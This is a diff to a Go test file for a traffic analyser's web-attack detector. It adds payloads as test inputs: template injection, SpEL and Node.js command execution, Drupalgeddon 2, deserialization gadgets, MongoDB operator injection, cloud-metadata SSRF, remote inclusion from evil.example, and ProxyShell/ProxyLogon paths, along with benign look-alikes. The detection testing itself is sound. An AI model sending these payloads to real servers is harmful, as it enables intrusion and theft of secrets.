@@ -2,6 +2,7 @@ package all_test
 
 import (
 	"encoding/base64"
+	"fmt"
 	"strings"
 	"testing"
 	"time"
@@ -16,7 +17,7 @@ func TestWebAttacks(t *testing.T) {
 	form := func(body string) [2]string {
 		return [2]string{"Content-Type: application/x-www-form-urlencoded\r\n", body}
 	}
-	for _, tt := range []struct {
+	list := []struct {
 		name, first string
 		sent        [2]string // headers and body
 		status      string
@@ -38,21 +39,53 @@ func TestWebAttacks(t *testing.T) {
 		{"a text about scripts", "GET /search?q=javascript+onerror+img+%3C+5+script HTTP/1.1", [2]string{}, "200 OK", "", ""},
 		{"a command for OMI", "POST /wsman HTTP/1.1", [2]string{"Content-Type: application/soap+xml\r\n", "<s:Body><p:ExecuteShellCommand_INPUT><p:command>id</p:command></p:ExecuteShellCommand_INPUT></s:Body>"}, "200 OK", "uid=0(root) gid=0(root)", "high: 10.0.0.1 sent a command for OMI without credentials (OMIGOD) in the body"},
 		{"a command for OMI of an administrator", "POST /wsman HTTP/1.1", [2]string{"Authorization: Basic YTpi\r\nContent-Type: application/soap+xml\r\n", "<s:Body><p:ExecuteShellCommand_INPUT><p:command>id</p:command></p:ExecuteShellCommand_INPUT></s:Body>"}, "200 OK", "uid=0(root) gid=0(root)", ""},
+		{"a template", "GET /hello?name=%7B%7Bconfig.__class__.__init__.__globals__%7D%7D HTTP/1.1", [2]string{}, "200 OK", "uid=33(www-data) gid=33(www-data)", "high: 10.0.0.1 sent an expression of a template in the URL"},
+		{"SpEL", "POST /actuator/gateway/routes/x HTTP/1.1", [2]string{"Content-Type: application/json\r\n", `{"value":"#{T(java.lang.Runtime).getRuntime().exec(\"id\")}"}`}, "201 x", "", "medium: 10.0.0.1 sent calls of Java's runtime in the body"},
+		{"Drupal", "POST /user/register HTTP/1.1", form("form_id=x&mail[%23post_render][]=exec&mail[%23markup]=id"), "200 OK", "", "medium: 10.0.0.1 sent render arrays of Drupal (Drupalgeddon 2) in the body"},
+		{"Node.js", "POST / HTTP/1.1", [2]string{"Content-Type: application/json\r\n", `{"_prefix":"process.mainModule.require('child_process').execSync('id')"}`}, "500 x", "", "low: 10.0.0.1 sent code of Node.js in the body"},
+		{"an object of .NET", "POST /page.aspx HTTP/1.1", form("__VIEWSTATE=%2FwEylBEAAQAAAP%2F%2F%2F%2F8BAAAAAAAAAAwC"), "500 x", "", "low: 10.0.0.1 sent a serialized object of .NET in the body"},
+		{"an object of Java", "GET /?s=rO0ABXNyABdqYXZh HTTP/1.1", [2]string{}, "500 x", "", "low: 10.0.0.1 sent a serialized object of Java in the URL"},
+		{"an object of PHP", "GET /?s=O:8:%22Evil_Job%22:1:%7Bs:1:%22a%22;i:1;%7D HTTP/1.1", [2]string{}, "500 x", "", "low: 10.0.0.1 sent a serialized object of PHP in the URL"},
+		{"Fastjson", "POST /api HTTP/1.1", [2]string{"Content-Type: application/json\r\n", `{"a":{"@type":"com.sun.rowset.JdbcRowSetImpl","autoCommit":true}}`}, "200 OK", "", "medium: 10.0.0.1 sent a class of Java to load from JSON (Fastjson) in the body"},
+		{"MongoDB", "POST /login HTTP/1.1", [2]string{"Content-Type: application/json\r\n", `{"user":{"$ne":null},"password":{"$ne":null}}`}, "200 OK", "", "medium: 10.0.0.1 sent operators of MongoDB in the body"},
+		{"metadata of a cloud", "GET /fetch?url=http://169.254.169.254/latest/meta-data/ HTTP/1.1", [2]string{}, "200 OK", `{"SecretAccessKey" : "x"}`, "high: 10.0.0.1 sent the address of a cloud's metadata, or a scheme that the server is to use in the URL"},
+		{"inclusion", "GET /index.php?page=http://evil.example/x.txt%3f HTTP/1.1", [2]string{}, "404 x", "", "low: 10.0.0.1 sent a file of another server to include in the URL"},
+		{"a line of a header", "GET /%0d%0aSet-Cookie:%20a=1 HTTP/1.1", [2]string{}, "404 x", "", "low: 10.0.0.1 sent a line of a header (response splitting) in the URL"},
+		{"Citrix", "GET /vpn/../vpns/cfg/smb.conf HTTP/1.1", [2]string{}, "404 x", "", "low: 10.0.0.1 sent a path to scripts of Citrix in the URL"},
+		{"ProxyShell", "GET /autodiscover/autodiscover.json?@a.example/owa/?&Email=autodiscover/autodiscover.json%3F@a.example HTTP/1.1", [2]string{}, "302 x", "", "low: 10.0.0.1 sent a path of Exchange by way of Autodiscover (ProxyShell) in the URL"},
+		{"ProxyLogon", "POST /ecp/y.js HTTP/1.1", [2]string{"Cookie: X-BEResource=localhost/EWS/Exchange.asmx?a=~1942062522;\r\n", ""}, "241 x", "", "medium: 10.0.0.1 sent a server of Exchange behind the front end (ProxyLogon) in the header"},
+		{"a path in a cookie", "POST /login.esp HTTP/1.1", [2]string{"Cookie: SESSID=/../../../opt/x\r\n", ""}, "200 OK", "", "medium: 10.0.0.1 sent a path out of the published folder in the header"},
+		{"secrets", "GET /.env HTTP/1.1", [2]string{}, "200 OK", "APP_NAME=a\nDB_PASSWORD=b\n", "high: 10.0.0.1 sent the name of a file with secrets in the URL"},
+		{"parts of a form", "POST /up HTTP/1.1", [2]string{"Content-Type: multipart/form-data; boundary=b\r\n", "--b\r\nContent-Disposition: form-data; name=\"f\"\r\nContent-Type: text/plain\r\n\r\nhi\r\n--b--\r\n"}, "200 OK", "", ""},
+		{"a query of numbers", "POST /find HTTP/1.1", [2]string{"Content-Type: application/json\r\n", `{"age":{"$gt":18},"price":"$ne"}`}, "200 OK", "", ""},
+		{"a template of Mustache", "POST /mail HTTP/1.1", [2]string{"Content-Type: application/json\r\n", `{"text":"Hello {{name}}, you paid {{ total }} to {{config_name}}"}`}, "200 OK", "", ""},
+		{"a link of Git", "GET /shop.git/info/refs?service=git-upload-pack HTTP/1.1", [2]string{}, "200 OK", "", ""},
+		{"an address to return to", "GET /login?next=https://shop.example/a.txt&x=1 HTTP/1.1", [2]string{}, "200 OK", "", ""},
 		{"a name", "GET /people?name=O%27Brien&id=5;v=1 HTTP/1.1", [2]string{}, "200 OK", "uid=1", ""},
 		{"a search", "GET /search?q=union+and+select+committee&cat=books HTTP/1.1", [2]string{}, "200 OK", passwd, ""},
 		{"a query that a console sends", "POST /query HTTP/1.1", [2]string{"Content-Type: text/plain\r\n", "SELECT 1 UNION ALL SELECT 2"}, "200 OK", "1", ""},
 		{"a file that is about users", "GET /etc/docs?id=1&cat=2 HTTP/1.1", [2]string{}, "200 OK", passwd, ""},
-	} {
+	}
+	client := func(i int) string { return fmt.Sprintf("10.0.1.%d", 1+i) }
+	var w traffic.Capture
+	for i, tt := range list {
+		request := traffic.HTTP(tt.first, strings.TrimSuffix("Host: a\r\n"+tt.sent[0], "\r\n"), tt.sent[1])
+		w.Exchange(time.Duration(i)*ms, ms, tt.name, client(i), "10.0.0.2:80", request, traffic.HTTP("HTTP/1.1 "+tt.status, "Content-Type: text/plain", tt.answer))
+		w.Close(time.Second, tt.name)
+	}
+	found := of(t, openTraffic(t, &w), "web-attack")
+	for i, tt := range list {
 		t.Run(tt.name, func(t *testing.T) {
-			var w traffic.Capture
-			request := traffic.HTTP(tt.first, strings.TrimSuffix("Host: a\r\n"+tt.sent[0], "\r\n"), tt.sent[1])
-			w.Exchange(0, ms, "a", "10.0.0.1", "10.0.0.2:80", request, traffic.HTTP("HTTP/1.1 "+tt.status, "Content-Type: text/plain", tt.answer))
-			w.Close(time.Second, "a")
-			var want []string
+			var got, want []string
+			for _, f := range found {
+				if strings.Contains(f, client(i)+" sent") {
+					got = append(got, strings.Replace(f, client(i), "10.0.0.1", 1))
+				}
+			}
 			if tt.want != "" {
 				want = []string{tt.want}
 			}
-			hold(t, of(t, openTraffic(t, &w), "web-attack"), want...)
+			hold(t, got, want...)
 		})
 	}
 }
